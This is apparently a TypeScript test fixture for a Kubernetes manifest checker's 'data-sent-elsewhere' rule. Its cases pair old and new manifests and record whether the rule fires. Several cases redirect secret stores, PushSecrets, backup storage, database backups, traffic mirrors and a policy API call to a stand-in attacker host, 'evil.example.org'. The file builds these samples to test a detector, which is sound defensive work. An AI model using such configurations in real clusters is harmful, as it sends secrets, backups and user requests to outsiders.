import type { ValueMap } from '../../../src/manifest/model.ts';
import { type Case, ingress, object, pair } from './build.ts';

const RULE = 'data-sent-elsewhere';
const store = (provider: ValueMap, name = 'a', kind = 'ClusterSecretStore') =>
  object(`external-secrets.io/v1/${kind}`, name, { spec: { provider } });
const vault = (server: string, name = 'a') => store({ vault: { server, path: 'kv', version: 'v2' } }, name);
const push = (more: ValueMap = {}) =>
  object('external-secrets.io/v1alpha1/PushSecret', 'a', {
    spec: {
      refreshInterval: '1h',
      secretStoreRefs: [{ kind: 'ClusterSecretStore', name: 'a' }],
      selector: { secret: { name: 'root' } },
      ...more,
    },
  });
const backups = (bucket: string, config: ValueMap = {}, name = 'a') =>
  object('velero.io/v1/BackupStorageLocation', name, { spec: { objectStorage: { bucket }, config } });
const located = (name: string, s3Url?: string) =>
  backups(name, { region: 'minio', s3ForcePathStyle: 'true', ...(s3Url === undefined ? {} : { s3Url }) }, name);
const database = (endpointURL: string) =>
  object('postgresql.cnpg.io/v1/Cluster', 'a', {
    spec: { imageName: 'registry.example.com/postgres:16', backup: { barmanObjectStore: { endpointURL } } },
  });
const mirror = (host: string) =>
  object('networking.istio.io/v1/VirtualService', 'a', { spec: { http: [{ mirror: { host } }] } });
const calling = (url: string) =>
  object('kyverno.io/v1/ClusterPolicy', 'a', {
    spec: {
      rules: [
        { name: 'a', context: [{ apiCall: { service: { url } } }], validate: { message: 'https://example.org' } },
      ],
    },
  });
const annotated = (key: string, value: string) =>
  ingress(['a.example.com'], {}, { annotations: { [`nginx.ingress.kubernetes.io/${key}`]: value } });

/** Where controllers send what they have. */
export const RECEIVER_CASES: Case[] = [
  [
    RULE,
    'fires',
    'another server of secrets',
    'high',
    pair(vault('https://vault.example.com'), vault('https://evil.example.org')),
  ],
  [RULE, 'fires', 'a new store', 'high', pair([], vault('https://evil.example.org'))],
  [
    RULE,
    'exempt',
    'one more store of a server',
    '',
    pair(vault('https://vault.example.com'), [
      vault('https://vault.example.com'),
      vault('https://vault.example.com:8200', 'b'),
    ]),
  ],
  [
    RULE,
    'silent',
    'another bucket of one server, under another name',
    '',
    pair(located('films', 'http://192.0.2.67:9000'), located('movies', 'http://192.0.2.67:9000')),
  ],
  [RULE, 'fires', 'another bucket of nobody knows whom', 'high', pair(located('films'), located('movies'))],
  [RULE, 'silent', 'a server of the cluster', '', pair([], vault('http://vault.vault.svc:8200'))],
  [
    RULE,
    'fires',
    'a webhook',
    'high',
    pair(
      [],
      store({ webhook: { url: 'https://evil.example.org/{{ .remoteRef.key }}', secrets: [] } }, 'a', 'SecretStore'),
    ),
  ],
  [
    RULE,
    'fires',
    'another project of a cloud',
    'high',
    pair(store({ gcpsm: { projectID: 'acme' } }), store({ gcpsm: { projectID: 'mallory' } })),
  ],
  [
    RULE,
    'fires',
    'Secrets are pushed',
    'medium',
    pair(vault('http://vault.vault.svc'), [vault('http://vault.vault.svc'), push()]),
  ],
  [
    RULE,
    'fires',
    'Secrets are pushed to a store of the change',
    'high',
    pair([], [push(), store({ aws: { service: 'SecretsManager' } })]),
  ],
  [
    RULE,
    'fires',
    'other Secrets are pushed',
    'medium',
    pair(push(), push({ selector: { secret: { name: 'admin' } } })),
  ],
  [RULE, 'exempt', 'they are pushed more often', '', pair(push(), push({ refreshInterval: '1m' }))],
  [RULE, 'fires', 'another bucket', 'high', pair(backups('acme'), backups('mallory'))],
  [
    RULE,
    'fires',
    'another server of backups',
    'high',
    pair(backups('a'), backups('a', { s3Url: 'https://evil.example.org' })),
  ],
  [
    RULE,
    'fires',
    'a database',
    'medium',
    pair(database('https://s3.example.com'), database('https://evil.example.org')),
  ],
  [RULE, 'exempt', 'a new database', '', pair([], database('https://s3.example.com'))],
  [RULE, 'fires', 'a mirror', 'high', pair(mirror('web.shop.svc.cluster.local'), mirror('evil.example.org'))],
  [RULE, 'silent', 'a mirror inside', '', pair([], mirror('web.shop.svc.cluster.local'))],
  [RULE, 'fires', 'a policy that asks somebody', 'high', pair([], calling('https://evil.example.org/a'))],
  [
    RULE,
    'fires',
    'a mirror of ingress-nginx',
    'high',
    pair(ingress(['a.example.com']), annotated('mirror-target', 'https://evil.example.org$request_uri')),
  ],
  [
    RULE,
    'exempt',
    'a login that others have',
    '',
    pair(
      [
        ingress(
          ['b.example.com'],
          {},
          { annotations: { 'nginx.ingress.kubernetes.io/auth-url': 'https://login.example.com/auth' } },
          'b',
        ),
        ingress(['a.example.com']),
      ],
      [
        ingress(
          ['b.example.com'],
          {},
          { annotations: { 'nginx.ingress.kubernetes.io/auth-url': 'https://login.example.com/auth' } },
          'b',
        ),
        annotated('auth-url', 'https://login.example.com/auth?x'),
      ],
    ),
  ],
];
